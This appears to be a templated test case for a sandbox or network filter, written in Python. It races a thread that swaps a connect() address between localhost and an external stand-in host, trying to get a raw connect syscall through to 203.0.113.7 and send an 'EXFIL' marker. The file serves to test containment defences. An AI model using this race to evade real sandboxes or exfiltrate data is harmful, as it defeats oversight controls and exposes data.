#: {"class": "race", "loader": "script", "include": ["raw"], "expect": [["connect", "203\\.0\\.113\\.7:443"]], "effect": {"sink": ["ext", "EXFIL"]}}
import socket, struct, threading
def sa(ip, port): return struct.pack("<H", 2) + struct.pack(">H", port) + socket.inet_aton(ip) + bytes(8)
a, b = sa(EXT, 443), sa("127.0.0.1", @PORT_MIRROR@); buf = ctypes.create_string_buffer(b, 16); stop = False
def flip():
    while not stop: ctypes.memmove(buf, a, 16); ctypes.memmove(buf, b, 16)
t = threading.Thread(target=flip); t.start()
for i in range(300):
    s = socket.socket(); r = sysc(42, s.fileno(), buf, 16)
    if r == 0 and s.getpeername()[0] == EXT: s.sendall(b"EXFIL"); s.close(); break
    s.close()
stop = True; t.join()
